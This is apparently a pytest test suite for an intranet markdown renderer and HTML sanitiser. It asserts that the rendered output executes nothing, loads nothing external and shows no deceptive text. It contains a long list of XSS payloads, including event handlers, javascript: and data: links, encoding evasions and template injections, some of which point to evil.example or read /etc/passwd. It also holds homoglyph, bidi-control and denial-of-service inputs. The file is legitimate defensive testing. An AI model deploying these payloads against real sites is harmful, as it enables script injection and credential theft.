"""Whatever is written, what is read runs nothing, loads nothing from elsewhere and looks like what it is.

The judge is a parser of its own: it walks the HTML and holds every element, attribute and address against a list.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intranet.core.markup import Person, TooLong, render
from intranet.core.markup.clean import clean

ALLOWED = {
    "a": {
        "href",
        "title",
        "class",
        "data-person",
        "data-entry",
        "data-titled",
        "data-section",
        "data-version",
        "rel",
        "id",
    },
    "img": {"src", "alt", "title", "loading", "decoding", "width"},
    "input": {"type", "class", "disabled", "checked"},
    "ol": {"start", "class"},
    "th": {"dir", "class", "scope"},
    **{tag: {"dir", "class"} for tag in ("p", "blockquote")},
    **{tag: {"dir", "id"} for tag in ("h2", "h3", "h4", "h5", "h6")},
    "li": {"dir", "class", "id"},
    "td": {"dir", "class"},
    **{tag: {"class"} for tag in ("code", "section", "span", "sup", "ul")},
    **{tag: set() for tag in ("br", "em", "label", "pre", "s", "strong", "table", "tbody", "thead", "tr", "hr")},
}
OWN_PICTURE = re.compile(r"/files/[0-9a-f-]{36}/[^/?#]+")


class Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, f"<{tag}>"
        for name, value in attrs:
            assert name in ALLOWED[tag], f"<{tag} {name}>"
            assert "\n" not in (value or "") or name in ("title", "alt")
        found = dict(attrs)
        assert len(found) == len(attrs), "an attribute twice"
        if tag == "a":
            assert found.get("rel") == "nofollow ugc noopener"
            if "href" in found:
                # As a browser reads it: tabs and line ends are nothing, and so are controls in front.
                href = re.sub(r"[\t\r\n]", "", found["href"]).strip("".join(map(chr, range(33)))).lower()
                assert urlsplit(href).scheme in ("", "http", "https", "mailto", "tel"), href
        if tag == "img":
            assert OWN_PICTURE.fullmatch(found["src"]), found["src"]
        if tag == "input":
            assert found["type"] == "checkbox"
            assert "disabled" in found

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        raise AssertionError("a comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def judged(html: str) -> str:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return "".join(judge.words)


def everybody(handles: set[str]) -> dict[str, Person]:
    """Whoever is named is here, under the worst name we can think of."""
    return {handle: Person(7, handle, '"><script>alert(1)</script>') for handle in handles}


JS = "javascript:alert(1)"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a style='position:fixed;inset:0' href=//evil.example>x</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div id=csrfmiddlewaretoken>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></div></body><script>alert(1)</script>",
    f"[x]({JS})",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript://x.it/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.it/1)",
    "[x](view-source:https://x.it)",
    "[x](intent://x#Intent;end)",
    "[x](ms-msdt:/id)",
    f"[x][1]\n\n[1]: {JS}",
    f"<{JS}>",
    '[x](https://x.it "title\\" onmouseover=alert(1)")',
    '[x](https://x.it"onmouseover=alert(1))',
    "[x](https://x.it/`onmouseover=alert(1)`)",
    "[<img src=x onerror=alert(1)>](https://x.it)",
    f"![x]({JS})",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](/files/0b0d7a52-8f8f-4b6a-9e43-3d3a6f7b2a11/a.png)',
    '![x](/files/0b0d7a52-8f8f-4b6a-9e43-3d3a6f7b2a11/a.png"onerror=alert(1))',
    "![x](/files/0b0d7a52-8f8f-4b6a-9e43-3d3a6f7b2a11/%2e%2e/%2e%2e/accounts/logout/)",
    "![x](x 'onerror=alert(1)')",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x' onload='alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '|a|\n|:-" onload=alert(1):|\n|b|',
    "- [x] <script>alert(1)</script>",
    "- [ ] [x](javascript:alert(1))",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    'x[^"onload=alert(1)]\n\n[^"onload=alert(1)]: x',
    "x^[<script>alert(1)</script>]",
    "# <script>alert(1)</script>",
    '# x" onload="alert(1)',
    "> <script>alert(1)</script>",
    "@ada<script>alert(1)</script>",
    '@ada" onload="alert(1)',
    "#tag<script>alert(1)</script>",
    '#tag"onload=alert(1)',
    ":smile:<script>alert(1)</script>",
    "https://x.it/<script>alert(1)</script>",
    'https://x.it/"onmouseover=alert(1)',
    "https://x.it/'onmouseover='alert(1)",
    'www.x.it"onmouseover=alert(1)',
    'mailto:a@b.it"onmouseover=alert(1)',
    '"onmouseover=alert(1)"@b.it',
    '<ada@x.it"onmouseover=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "\0<\0script\0>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %} {{ request.user.password }}",
    "${alert(1)} #{alert(1)}",
    "\ud800<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "before {} after", "**{}**", "> - {}", "[{}](https://x.it)", "@ada {} #tag"])
def test_nothing_runs(payload, around):
    rendered = render(around.replace("{}", payload), people=everybody, anchors=True)
    judged(rendered.html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_let_through_is_let_through_again(payload):
    """Clean HTML stays as it is: nothing unfolds at a second reading."""
    once = str(render(payload, people=everybody).html)
    assert clean(once) == once


@pytest.mark.parametrize("href", [JS, "vbscript:x", "data:text/html,x", "file:///etc/passwd", "x:y"])
def test_a_link_that_leads_astray_stays_text(href):
    source = f"[x]({href})"
    assert "<a" not in render(source).html


def test_a_script_is_shown_as_what_was_typed():
    assert judged(render("<script>alert(1)</script>").html).strip() == "<script>alert(1)</script>"


FRAGMENTS = [
    *("<", ">", "</", "/>", "<!--", "-->", "&", "&lt;", "&#60;", "&#x3c;", '"', "'", "`", "=", " ", "\n", "\n\n", "\t"),
    *("[", "](", ")", "![", "[^", "^[", "]:", "**", "_", "~~", "#", "@", ":", "|", "|-|\n", "- ", "1. ", "> ", "```"),
    *("script", "img", "svg", "style", "iframe", "a href=", "src=", "onerror=", "onload=", "style=", "javascript:"),
    *("JaVaScRiPt:", "java\tscript:", "data:text/html,", "https://", "www.x.it", "//x.it", "mailto:", "alert(1)"),
    *(
        "@ada",
        "#tag",
        ":smile:",
        "[ ] ",
        "[x] ",
        "\0",
        "\u202e",
        "\u2066",
        "\ud800",
        "\\",
        "/files/",
        "é",
        "日本",
        "🎉",
    ),
]


@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=5)), max_size=25).map("".join))
@settings(max_examples=600, deadline=None)
def test_nothing_runs_however_the_pieces_fall(source):
    rendered = render(source, people=everybody, anchors=True)
    judged(rendered.html)
    assert clean(str(rendered.html)) == str(rendered.html)
    rendered.text.encode()
    rendered.html.encode()


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_text_can_be_written(source):
    judged(render(source).html)


def test_the_last_gate_alone_is_enough():
    """Were the parser to let HTML through, the allow-list would still stand."""
    for payload in PAYLOADS:
        cleaned = clean(payload.encode("utf-8", "replace").decode())
        assert not re.search(r"<(script|svg|math|iframe|style|object|form|base|meta|link)\b", cleaned, re.IGNORECASE)
        assert not re.search(r"<[^>]*\son\w+\s*=", cleaned, re.IGNORECASE), cleaned
        assert not re.search(r"<[^>]*\sstyle\s*=", cleaned, re.IGNORECASE)
        assert not re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript):", cleaned, re.IGNORECASE)


# --- What would fool the eye ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "control", ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\ufeff", "\0"]
)
@pytest.mark.parametrize("around", ["invoice{}fdp.exe", "`{}`", "```\n{}\n```", "[{}](https://x.it)", "# {}", "#a{}b"])
def test_text_cannot_be_turned_around(control, around):
    for typed in (control, f"&#{ord(control)};", f"&#x{ord(control):x};"):
        rendered = render(around.replace("{}", typed), people=everybody)
        assert control not in rendered.html
        assert control not in rendered.text


def test_arabic_and_hebrew_keep_their_own_direction():
    shown = str(render("שלום\n\nHello\n\n- مرحبا").html)
    assert shown.count('<p dir="auto">') == 2
    assert '<li dir="auto">' in shown


@pytest.mark.parametrize(
    "source",
    [
        "https://аррӏе.com/x",
        "<https://аррӏе.com/x>",
        "[Apple](https://аррӏе.com/x)",
        "www.аррӏе.com",
        "[x](//аррӏе.com)",
    ],
)
def test_a_host_in_foreign_letters_is_shown_as_the_network_knows_it(source):
    words = judged(render(source).html)
    assert "xn--80ak6aa92e.com" in words
    assert "аррӏе" not in words


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("[https://bank.it](https://evil.it/x)", "https://bank.it (evil.it)"),
        ("[www.bank.it](https://evil.it)", "www.bank.it (evil.it)"),
        ("[bank.it/login](https://evil.it)", "bank.it/login (evil.it)"),
        ("[bank.it](https://www.bank.it/a)", "bank.it"),
        ("[our plan](https://x.it)", "our plan"),
        ("[bank.it](/spaces/)", "bank.it"),
    ],
)
def test_a_link_that_says_one_place_and_goes_to_another_says_so(source, said):
    assert judged(render(source).html).strip() == said


def test_no_template_reads_it_again():
    assert "{{ request.user.password }}" in render("{{ request.user.password }}").html


# --- How much -------------------------------------------------------------------------------------------------------


def test_a_text_that_is_too_long_is_refused_with_a_sentence():
    render("x" * 200_000)
    for source in ("x" * 200_001, "é" * 100_001):
        with pytest.raises(TooLong, match=r"200 KB.*\."):
            render(source)


HOSTILE = {
    "brackets": "[" * 60_000,
    "pictures": "![" * 30_000,
    "notes": "^[" * 30_000,
    "unclosed notes": "[^" * 30_000,
    "stars": "**_*_" * 12_000,
    "quotes": ">" * 60_000,
    "lists": "- " * 30_000 + "a",
    "steps": "\n".join("  " * depth + "- a" for depth in range(240)),
    "tasks": "- [ ] a\n" * 6000,
    "backticks": "".join("`" * count + "a" for count in range(340)),
    "links in links": "[" * 400 + "a" + "](b)" * 400,
    "schemes": "http://" * 8000,
    "hosts": "\nwww.a.b" * 6000,
    "people": "@a " * 20_000,
    "tags": " #a" * 20_000,
    "entities": "&" * 60_000,
    "tags of html": "<a " * 20_000,
    "columns": "|" * 1000 + "\n" + "|-" * 1000 + "|\n" + "x\n" * 9000,
    "definitions": "".join(f"[a{n}]: /x\n" for n in range(4000)) + "[a1]" * 2000,
    "java": "```java\n" + "a " * 4900 + "\n```\n",
    "c": "```c\n" + " \n" * 4900 + "\n```\n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_rendered_like_any_other(name):
    judged(render(HOSTILE[name], people=everybody).html)


def test_after_a_thousand_brackets_that_lead_nowhere_the_rest_are_brackets():
    honest = "[a](/spaces/)"
    assert str(render("[" * 500 + "\n\n" + honest).html).count("<a ") == 1
    assert str(render("[" * 5000 + "\n\n" + honest).html).count("<a ") == 0


def test_a_table_cannot_grow_cells_without_end():
    assert len(render(HOSTILE["columns"]).html) < 5_000_000
